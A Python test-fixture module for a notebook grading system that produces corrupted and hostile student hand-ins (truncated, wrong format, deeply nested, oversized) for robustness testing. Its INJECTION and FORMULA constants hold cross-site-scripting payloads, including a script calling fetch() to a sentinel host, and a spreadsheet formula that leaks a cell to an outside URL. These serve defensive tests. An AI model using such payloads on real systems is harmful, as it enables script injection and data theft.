"""Hand-ins as they really arrive when something went wrong, by accident or on purpose: the material of the sample class
and of the hostile tests.

Each function takes a good notebook (its JSON as Python data) and the file's name and returns the files that arrive
instead.
"""

from __future__ import annotations

import copy
import functools
import json
import random
from collections.abc import Callable

from seminar.questions.record import MIME

Files = list[tuple[str, bytes]]
Kind = Callable[[dict, str, random.Random], Files]

#: What an attacker would like to happen; the tests look for its traces.
SENTINEL = "seminar_sentinel"
INJECTION = (
    f'</div></body><script>fetch("https://{SENTINEL}.invalid/")</script><img src=x onerror="alert(1)"><svg'
    ' onload=alert(1)><iframe src="javascript:alert(1)"></iframe>[click](javascript:alert(1))'
    f" ![x](https://{SENTINEL}.invalid/x.png) <style>*{{display:none}}</style> {{{{7*7}}}} ${{7*7}}"
)
FORMULA = '=HYPERLINK("https://example.invalid/?"&A1,"marks")'


def encoded(notebook: dict) -> bytes:
    """Return a notebook as Jupyter writes it."""
    return (json.dumps(notebook, ensure_ascii=False, indent=1) + "\n").encode("utf-8")


def record_outputs(notebook: dict) -> list[tuple[dict, dict]]:
    """Return (cell, output) for each output that carries a record."""
    return [
        (cell, output)
        for cell in notebook["cells"]
        for output in cell.get("outputs", [])
        if MIME in output.get("data", {})
    ]


def usual_name(make: Callable[[dict], bytes | None]) -> Kind:
    """Return the kind whose one file has its usual name: it holds what *make* returns or, if that is nothing, the
    notebook as *make* leaves it.
    """

    @functools.wraps(make)
    def files(notebook: dict, stem: str, random_: random.Random) -> Files:
        made = make(notebook)
        return [(f"{stem}.ipynb", encoded(notebook) if made is None else made)]

    return files


@usual_name
def truncated(notebook: dict) -> bytes:
    """Half a file: the battery died while saving."""
    data = encoded(notebook)
    return data[: len(data) * 2 // 3]


@usual_name
def without_outputs(notebook: dict) -> None:
    """All outputs cleared before saving."""
    for cell in notebook["cells"]:
        if "outputs" in cell:
            cell["outputs"] = []


def word_document(notebook: dict, stem: str, random_: random.Random) -> Files:
    """A Word document instead of the notebook."""
    return [(f"{stem}.docx", b"PK\x03\x04" + bytes(random_.randrange(256) for _ in range(200)))]


def pdf(notebook: dict, stem: str, random_: random.Random) -> Files:
    """A print-out."""
    return [(f"{stem}.pdf", b"%PDF-1.7\n% a print-out of the notebook\n%%EOF\n")]


@usual_name
def pdf_in_disguise(notebook: dict) -> bytes:
    """A PDF that was given the ending of a notebook."""
    return b"%PDF-1.7\n%%EOF\n"


def handed_in_twice(notebook: dict, stem: str, random_: random.Random) -> Files:
    """An unfinished file first, then the whole one; the browser added (1)."""
    early = copy.deepcopy(notebook)
    for _, output in record_outputs(early)[-2:]:
        del output["data"][MIME]
    return [(f"{stem}.ipynb", encoded(early)), (f"{stem} (1).ipynb", encoded(notebook))]


@usual_name
def copied_cells(notebook: dict) -> None:
    """A cell copied and answered again."""
    for cell, _ in record_outputs(notebook)[:1]:
        twin = copy.deepcopy(cell)
        record = next(one for one in twin["outputs"] if MIME in one.get("data", {}))["data"][MIME]
        record |= {"at": "2026-10-01T00:00:00Z", "n": 1, "answer": None}
        notebook["cells"].append(twin)


@usual_name
def pasted_outputs(notebook: dict) -> None:
    """The outputs of two questions exchanged."""
    found = record_outputs(notebook)
    if len(found) > 1:
        (one, _), (other, _) = found[0], found[1]
        one["outputs"], other["outputs"] = other["outputs"], one["outputs"]


@usual_name
def wrong_assignment(notebook: dict) -> bytes:
    """The file of another exercise."""
    data = encoded(notebook)
    here = next((output["data"][MIME]["q"].partition(".")[0] for _, output in record_outputs(notebook)), "ex02")
    return data.replace(here.encode() + b".", b"ex09.")


@usual_name
def older_question(notebook: dict) -> None:
    """Answers to last year's wording."""
    for _, output in record_outputs(notebook)[:2]:
        output["data"][MIME]["rev"] = "0ld0ld00"


@usual_name
def unknown_question(notebook: dict) -> None:
    """A record of a question that the exercise does not have."""
    for cell, output in record_outputs(notebook)[:1]:
        extra = copy.deepcopy(output)
        extra["data"][MIME]["q"] = extra["data"][MIME]["q"].partition(".")[0] + ".q99"
        cell["outputs"].append(extra)


@usual_name
def wrong_types(notebook: dict) -> None:
    """Answers of a type that no question takes, among them numbers that are none."""
    wrong = [float("nan"), float("inf"), 10**400, {"a": [{}]}, [[[]]], True, -1, "no such option"]
    for (_, output), answer in zip(record_outputs(notebook), wrong, strict=False):
        output["data"][MIME]["answer"] = answer


@usual_name
def mangled_record(notebook: dict) -> None:
    """A record changed by hand into something else."""
    found = record_outputs(notebook)
    for (_, output), instead in zip(found, ["a text", {"v": 1}, {"v": 99, "q": "ex02.q3", "answer": 1}], strict=False):
        output["data"][MIME] = instead


@usual_name
def injection(notebook: dict) -> None:
    """A written answer full of markup, and a formula."""
    for _, output in record_outputs(notebook):
        record = output["data"][MIME]
        if isinstance(record["answer"], str) and " " in record["answer"]:
            record["answer"] = f"{FORMULA} {INJECTION} {record['answer']}"
            output["data"]["text/html"] = INJECTION


@usual_name
def huge_answer(notebook: dict) -> None:
    """One answer of a million characters."""
    for _, output in record_outputs(notebook)[-1:]:
        output["data"][MIME]["answer"] = "word " * 200_000


@usual_name
def deep(notebook: dict) -> bytes:
    """Lists within lists, a hundred thousand deep."""
    return b'{"cells":' + b"[" * 100_000 + b"]" * 100_000 + b"}"


@usual_name
def old_format(notebook: dict) -> bytes:
    """Saved as nbformat 3 by an old program, records and all."""
    cells = []
    for cell in notebook["cells"]:
        if cell["cell_type"] == "code":
            outputs = [
                {"output_type": "display_data", "metadata": {}, **output.get("data", {})} for output in cell["outputs"]
            ]
            cells.append(
                {
                    "cell_type": "code",
                    "language": "python",
                    "collapsed": False,
                    "metadata": {},
                    "input": cell["source"],
                    "outputs": outputs,
                    "prompt_number": 1,
                }
            )
        else:
            cells.append({"cell_type": "markdown", "metadata": {}, "source": cell["source"]})
    worksheets = [{"cells": cells, "metadata": {}}]
    return encoded({"metadata": {"name": ""}, "nbformat": 3, "nbformat_minor": 0, "worksheets": worksheets})


@usual_name
def with_mark(notebook: dict) -> bytes:
    """Saved by an editor that puts a byte order mark first."""
    return b"\xef\xbb\xbf" + encoded(notebook)


@usual_name
def utf16(notebook: dict) -> bytes:
    """Saved as UTF-16."""
    return encoded(notebook).decode("utf-8").encode("utf-16")


def renamed_by_browser(notebook: dict, stem: str, random_: random.Random) -> Files:
    """The browser added an ending of its own."""
    return [(f"{stem}.ipynb.txt", encoded(notebook))]


def with_system_files(notebook: dict, stem: str, random_: random.Random) -> Files:
    """macOS put its companion beside the file."""
    return [
        (f"{stem}.ipynb", encoded(notebook)),
        (f"._{stem}.ipynb", b"\x00\x05\x16\x07\x00\x02\x00\x00Mac OS X        "),
    ]


@usual_name
def empty(notebook: dict) -> bytes:
    """A file of no bytes: the disk was full."""
    return b""


#: What may be mixed into a class, by name.
KINDS: dict[str, Kind] = {
    function.__name__: function
    for function in (
        truncated,
        handed_in_twice,
        word_document,
        without_outputs,
        copied_cells,
        injection,
        pasted_outputs,
        older_question,
        pdf,
        wrong_assignment,
        with_mark,
        wrong_types,
        renamed_by_browser,
        unknown_question,
        empty,
        utf16,
        mangled_record,
        old_format,
        with_system_files,
        pdf_in_disguise,
        deep,
        huge_answer,
    )
}
